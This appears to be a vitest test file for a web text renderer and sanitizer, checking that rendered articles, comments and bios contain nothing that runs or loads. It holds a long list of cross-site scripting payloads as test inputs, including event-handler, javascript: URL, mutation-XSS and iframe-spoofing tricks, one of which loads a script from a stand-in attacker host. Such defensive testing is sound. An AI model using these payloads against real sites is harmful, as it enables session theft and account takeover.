import Turndown from 'turndown';
import { describe, expect, it } from 'vitest';
import { STORED_PREFIX } from '../schema/content/text/anchors.ts';
import { excerptOf, readingMinutes } from '../schema/content/text/excerpt.ts';
import { toMarkdown } from '../schema/content/text/markdown.ts';
import { renderText } from '../schema/content/text/render.ts';
import { markdownOfSource } from '../schema/content/text/rich-text.ts';
import type { TextPlace } from '../schema/content/text/sanitize.ts';
import { storageFault } from '../schema/content/text/text-rules.ts';

const PLACES: TextPlace[] = ['article', 'comment', 'bio'];

interface ParsedElement {
  localName: string;
  attributes: ArrayLike<{ name: string; value: string }>;
  ownerDocument: { getElementsByTagName(name: string): ArrayLike<ParsedElement> };
}

/** Every element of the document that a browser's parsing algorithm makes of the HTML (turndown brings such a parser). */
function parsed(html: string): ParsedElement[] {
  let root: ParsedElement | undefined;
  const turndown = new Turndown();
  turndown.addRule('reach', {
    filter: (node) => {
      root = node as ParsedElement;
      return false;
    },
    replacement: String,
  });
  turndown.turndown(`<p>reach</p>${html}`);
  return Array.from(root!.ownerDocument.getElementsByTagName('*'));
}

const SCAFFOLD = new Set(['html', 'head', 'body', 'x-turndown']);
const HARMLESS = new Set(
  `a b strong i em s del ins u code kbd samp var q cite br p ul ol li blockquote pre hr h1 h2 h3 h4 h5 h6 div figure
   figcaption details summary dl dt dd address table caption colgroup col thead tbody tfoot tr th td sup sub small mark
   abbr dfn time wbr ruby rb rt rp bdi bdo img audio video source track iframe section span`.split(/\s+/),
);
const ADDRESSES = new Set(['href', 'src', 'poster', 'cite']);

/** What of the HTML could act: elements, attributes and addresses that run something or load from anywhere. */
function activeParts(html: string): string[] {
  return parsed(html).flatMap(({ localName, attributes }) => {
    if (SCAFFOLD.has(localName)) return [];
    if (!HARMLESS.has(localName)) return [`<${localName}>`];
    return Array.from(attributes).flatMap(({ name, value }) => {
      const part = `${localName} ${name}=${value}`;
      if (/^on|^style$|^srcdoc$|^name$|^form|^xlink|^data/i.test(name)) return [part];
      // Without the prefix, an id could replace a property of the document.
      if (name === 'id') return value.startsWith(STORED_PREFIX) ? [] : [part];
      if (!ADDRESSES.has(name)) return [];
      if (!URL.canParse(value, 'https://here.example')) return [part];
      const url = new URL(value, 'https://here.example');
      if (!/^(https?|mailto|tel):$/.test(url.protocol)) return [part];
      return localName === 'iframe' && url.host !== 'www.youtube.com' ? [part] : [];
    });
  });
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '"><script>alert(1)</script>',
  '</p></div></body><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR=alert(1)//',
  '<img/src/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=x srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src="x" style="background:url(javascript:alert(1))">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><annotation-xml encoding="text/html"><style></math><img src onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><iframe onload=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><svg onload=alert(1)>">',
  '<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><option><style></option></select><b><img src=xx: onerror=alert(1)></style></option></select>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/x)">x</div>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://here.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href=x onclick=alert(1) onmouseover=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '<a id=cookie name=body href=/x>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/"></iframe>',
  '<iframe src="http:\\\\evil.example\\www.youtube.com"></iframe>',
  '<iframe src="/admin"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x"><p title="</iframe><script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input type=image src=x></form>',
  '<body onload=alert(1)>',
  '<video src=x onerror=alert(1)><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>',
  '<audio src=x onerror=alert(1) autoplay>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  "<p lang='\"><script>alert(1)</script>'>x</p>",
  '<code class="language-x onload=alert(1) &quot;><script>">x</code>',
  '<b onmouseover=alert(1)//<b>x',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x](vbscript:msgbox(1))',
  '[x](http://a.example "onclick=alert(1) x=\\"")',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](http://a.example/x.png)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '<javascript:alert(1)>',
  '<http://a.example/?"onmouseover="alert(1)>',
  '```x" onmouseover="alert(1)\nx\n```',
  '<a href="[x](javascript:alert(1))">x</a>',
  'http://a.example/"onmouseover="alert(1)',
];

describe('rendered text is safe to insert as it is', () => {
  for (const place of PLACES) {
    for (const format of ['MARKDOWN', 'HTML'] as const) {
      it.each(ATTACKS)(`nothing in a ${place} of ${format} acts: %s`, (attack) => {
        expect(activeParts(renderText(attack, format, place).html)).toEqual([]);
        expect(activeParts(renderText(`before\n\n${attack}\n\nafter`, format, place).html)).toEqual([]);
      });
    }
  }

  it.each(ATTACKS)('what is converted to Markdown and rendered again does not act: %s', (attack) => {
    expect(activeParts(renderText(toMarkdown(attack), 'MARKDOWN', 'article').html)).toEqual([]);
  });

  it('stays inside the element it is inserted in', () => {
    for (const html of [
      '</div></section>x',
      '<div><p>open',
      '<b><i>crossed</b></i>',
      '<table><tr><td>open',
      '<!-- open',
    ]) {
      const page = `<section>${renderText(html, 'HTML', 'article').html}</section><footer>after</footer>`;
      const elements = parsed(page);
      const footer = elements.find(({ localName }) => localName === 'footer') as unknown as {
        parentNode: ParsedElement;
      };
      expect(footer.parentNode.localName).toBe('x-turndown');
    }
  });

  it('finds what acts, so that an empty answer means something', () => {
    for (const html of [
      '<script>1</script>',
      '<img src=x onerror=1>',
      '<a href="java\nscript:1">x</a>',
      '<svg></svg>',
    ]) {
      expect(activeParts(html)).not.toEqual([]);
    }
  });
});

describe('what a place allows', () => {
  it('shows HTML in a comment as the text it is', () => {
    expect(renderText('a <b>bold</b> claim', 'MARKDOWN', 'comment')).toEqual({
      html: '<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>',
      text: 'a <b>bold</b> claim',
    });
  });

  it('tells search engines not to follow the links of visitors', () => {
    const { html } = renderText('see https://a.example/x?y=1&z=2', 'MARKDOWN', 'comment');
    expect(html).toBe(
      '<p>see <a href="https://a.example/x?y=1&amp;z=2" rel="nofollow ugc noopener">https://a.example/x?y=1&amp;z=2</a></p>',
    );
  });

  it('takes no link in a comment that the page itself or another program of the reader runs', () => {
    const links = ['/x', '//a.example', '#x', 'tel:1', 'ftp://a.example', 'mailto:a@b.example', 'http://a.example'];
    const { html } = renderText(links.map((url) => `<a href="${url}">x</a>`).join(''), 'HTML', 'comment');
    expect(html.match(/href="[^"]*"/g)).toEqual([
      'href="/x"',
      'href="//a.example"',
      'href="ftp://a.example"',
      'href="mailto:a@b.example"',
      'href="http://a.example"',
    ]);
  });

  it('leaves file names that look like web sites alone', () => {
    expect(renderText('read readme.md and main.rs', 'MARKDOWN', 'comment').html).toBe(
      '<p>read readme.md and main.rs</p>',
    );
  });

  it('shows no picture, table or large heading in a comment', () => {
    const { html } = renderText(
      '# Loud\n\n![cat](https://a.example/cat.png)\n\n|a|b|\n|-|-|\n|1|2|',
      'MARKDOWN',
      'comment',
    );
    expect(html).toContain('<h4>Loud</h4>');
    expect(html).not.toMatch(/<img|<table|<h1/);
    expect(html).toContain('cat</a>');
  });

  it('keeps relative links and pictures of an article, and marks links that lead elsewhere', () => {
    const { html } = renderText(
      '[in](/about) [out](https://a.example) ![A cat](/covers/cat.svg "Tom")',
      'MARKDOWN',
      'article',
    );
    expect(html).toBe(
      '<p><a href="/about">in</a> <a href="https://a.example" rel="noopener">out</a> <img src="/covers/cat.svg" alt="A cat" title="Tom" /></p>',
    );
  });

  it('embeds known players in a sandbox, and no other page', () => {
    const { html } = renderText(
      '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" height="315"></iframe><iframe src="https://a.example/"></iframe>',
      'HTML',
      'article',
    );
    expect(html.match(/<iframe/g)).toHaveLength(1);
    expect(html).toContain('src="https://www.youtube-nocookie.com/embed/x" width="560" height="315" sandbox="');
  });

  it('keeps classes that align or name a language, and drops block comments', () => {
    const source =
      '<!-- wp:image {"align":"left"} --><figure class="wp-block-image alignleft evil"><img class="x" src="/a.png" alt="A"/></figure><!-- /wp:image --><pre><code class="language-js hljs">1</code></pre>';
    expect(renderText(source, 'HTML', 'article').html).toBe(
      '<figure class="alignleft"><img src="/a.png" alt="A" /></figure><pre><code class="language-js">1</code></pre>',
    );
  });

  it('aligns the cells of a Markdown table by class', () => {
    expect(renderText('|a|b|\n|:-:|-:|\n|1|2|', 'MARKDOWN', 'article').html).toContain(
      '<th class="has-text-align-center">a</th>\n<th class="has-text-align-right">b</th>',
    );
  });
});

describe('plain text reads well', () => {
  it('sets paragraphs, lists, quotes, code and tables apart', () => {
    const source = `## Heading

First *line*
goes on & on.

- one
- two
  1. inner

3. three
4. four

> Quoted,
> twice.
>
> Again.

\`\`\`js
if (a < b) {
  c();
}
\`\`\`

| Name | Age |
|------|----:|
| Ada  |  36 |

![A cat](/cat.png) and a [link](https://a.example).`;
    expect(renderText(source, 'MARKDOWN', 'article').text).toBe(`Heading

First line goes on & on.

- one
- two
  1. inner

3. three
4. four

> Quoted, twice.
>
> Again.

if (a < b) {
  c();
}

Name | Age
Ada | 36

A cat and a link.`);
  });

  it('decodes entities and keeps typed line breaks of a comment', () => {
    expect(renderText('caf&eacute; &amp; 1 < 2\nnext', 'MARKDOWN', 'comment').text).toBe('café & 1 < 2\nnext');
  });

  it('is empty for an empty source', () => {
    for (const place of PLACES) expect(renderText(' \n ', 'MARKDOWN', place)).toEqual({ html: '', text: '' });
  });
});

describe('Markdown', () => {
  it('comes back exactly as it was written', () => {
    const source = ' # Odd\r\n\tspacing  \n*  * <b>and & all</b>\n';
    const convertText = () => expect.unreachable();
    expect(markdownOfSource(source, 'MARKDOWN', { convertText })).toBe(source);
  });

  const FOOTNOTES =
    '<p>A<sup><a href="#fn-1" id="r">[1]</a></sup></p><ul><li><input type="checkbox" checked disabled> a</li></ul><section class="footnotes"><ol><li id="fn-1"><p>One</p><p>two</p></li></ol></section>';
  const WRITINGS = {
    'paragraphs and emphasis': '<p>One <b>two</b> <em>three</em><br>four <s>five</s> <code>a`b</code></p><p>Six</p>',
    'signs that mean something':
      '<p>1 * 2 _x_ [y] ~~z~~ `q` &lt;b&gt; &amp;lt; &amp;amp; # no</p><p>1. no list</p><p>- nor this</p>',
    lists: '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol start="3"><li>x</li><li>y</li></ol>',
    'items of several blocks':
      '<ol><li><p>a</p><p>b</p></li><li><p>c</p><ul><li>d</li></ul></li></ol><ol start="9"><li>e<br>f</li><li>g</li></ol>',
    'quotes and code':
      '<blockquote><p>q1</p><p>q2</p></blockquote><pre><code class="language-ts">a\n\n  &lt;b&gt; ```\n</code></pre>',
    'a table':
      '<table><thead><tr><th>A</th><th class="has-text-align-right">B|C</th></tr></thead><tbody><tr><td>1</td><td>two <b>x</b><br>y</td></tr></tbody></table>',
    'a table with spans': '<table><tbody><tr><td colspan="2">A</td></tr><tr><td>1</td><td>2</td></tr></tbody></table>',
    'a figure':
      '<figure class="alignleft"><img src="/x.png" alt="A cat" width="12" /><figcaption>A <b>caption</b></figcaption></figure>',
    'tasks and footnotes': FOOTNOTES,
    'small things':
      '<p>x<sup>2</sup> H<sub>2</sub>O <kbd>Ctrl</kbd> <a href="/a_(b)">a link</a></p><hr><h2>Two<br>lines</h2>',
  };
  it.each(Object.entries(WRITINGS))('converted from HTML reads the same when rendered again: %s', (_name, html) => {
    const before = renderText(html, 'HTML', 'article');
    const after = renderText(toMarkdown(html), 'MARKDOWN', 'article');
    // Items of a list may be paragraphs or not: an empty line between them is the same reading.
    const reading = (text: string) => text.replace(/\n+/g, '\n');
    expect(reading(after.text)).toBe(reading(before.text));
  });

  it('keeps a table a table that people can edit', () => {
    expect(toMarkdown(WRITINGS['a table'])).toBe('| A | B\\|C |\n| --- | ---: |\n| 1 | two **x**<br>y |');
  });
});

describe('hostile sizes', () => {
  const DEPTH = 10_000;
  const DEEP = {
    'quotes on one line': '>'.repeat(DEPTH),
    'nested lists': Array.from({ length: 300 }, (_, level) => `${'  '.repeat(level)}- a`).join('\n'),
    'list markers': '- '.repeat(DEPTH),
    emphasis: '*a **b '.repeat(DEPTH),
    brackets: '['.repeat(DEPTH),
    'elements left open': '<div><b>'.repeat(DEPTH),
    'blockquote elements': '<blockquote>'.repeat(DEPTH),
    'list elements': '<ul><li>'.repeat(DEPTH),
    'tables in tables': '<table><tr><td>'.repeat(DEPTH),
    'a cell with wide spans': '<table><tr><td colspan="99999" rowspan="99999">x</table>',
  };
  it.each(Object.entries(DEEP))('renders and converts: %s', (_name, source) => {
    for (const place of PLACES) {
      for (const format of ['MARKDOWN', 'HTML'] as const) {
        expect(activeParts(renderText(`${source} end`, format, place).html)).toEqual([]);
      }
    }
    expect(typeof toMarkdown(source)).toBe('string');
  });

  it('converts lists and white space of any length', () => {
    const items = 2 * DEPTH;
    expect(toMarkdown(`<ol>${'<li>a'.repeat(items)}</ol>`)).toMatch(new RegExp(`\\n${items}\\. a$`));
    expect(toMarkdown(`<pre>a${' '.repeat(20 * DEPTH)}b</pre>`)).toMatch(/^```\na +b\n```$/);
  });

  it('does not let a comment grow far beyond what was typed', () => {
    const source = `${'>'.repeat(14)}${'a\n'.repeat(2_000)}`;
    const { html, text } = renderText(source, 'MARKDOWN', 'comment');
    expect(text).toContain('a\n');
    expect(text.length).toBeLessThan(source.length * 20);
    expect(html.length).toBeLessThan(source.length * 10);
  });
});

describe('excerpts, reading time and faults', () => {
  it('is the whole text when it is short, in one line', () => {
    expect(excerptOf('Short.\n\nAnd sweet.')).toBe('Short. And sweet.');
  });

  it('ends with a sentence when one ends late enough', () => {
    expect(excerptOf('A whole sentence here. '.repeat(30))).toBe('A whole sentence here. '.repeat(12).trim());
  });

  it('ends between words with an ellipsis otherwise', () => {
    const excerpt = excerptOf('unfinished '.repeat(60));
    expect(excerpt).toMatch(/^(unfinished )+unfinished…$/);
    expect(excerpt.length).toBeLessThanOrEqual(280);
  });

  it('never cuts a character in half', () => {
    for (const lead of ['', 'x']) {
      const excerpt = excerptOf(lead + '🦊'.repeat(300));
      expect(storageFault(excerpt)).toBeNull();
      expect(excerpt.length).toBeGreaterThan(200);
    }
  });

  it('counts words, and characters where there are no words between spaces', () => {
    expect(readingMinutes('')).toBe(1);
    expect(readingMinutes('word '.repeat(230 * 4))).toBe(4);
    expect(['読'.repeat(1_500), 'ภาษาไทยง่าย'.repeat(1_000)].map(readingMinutes)).toEqual([3, 11]);
  });

  it('says why a text cannot be stored', () => {
    expect(storageFault('naïve 🦊 \n\t text')).toBeNull();
    expect(storageFault('a\0b')).toMatch(/NUL/);
    expect(storageFault('a\uD83Eb')).toMatch(/half of a character/);
    expect(storageFault('\uDD8A')).toMatch(/half of a character/);
    const marks = '\u0301'.repeat(8);
    expect(storageFault(`a${marks}`)).toBeNull();
    expect(storageFault(`a${marks}\u0301`)).toMatch(/stacks more than 8 marks/);
    // What nobody sees between them keeps them apart for a program alone.
    for (const joiner of ['\u200D', '\u200C', '\u2060', '\u00AD\u200B'])
      expect(storageFault(`a${(marks + joiner).repeat(9)}`)).toMatch(/stacks more than 8 marks/);
    for (const fine of [
      '👨‍👩‍👧‍👦',
      '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
      '❤️‍🔥',
      '1️⃣',
      'क्षि',
      'שָׁלוֹם',
    ])
      expect(storageFault(fine.repeat(20))).toBeNull();
  });
});
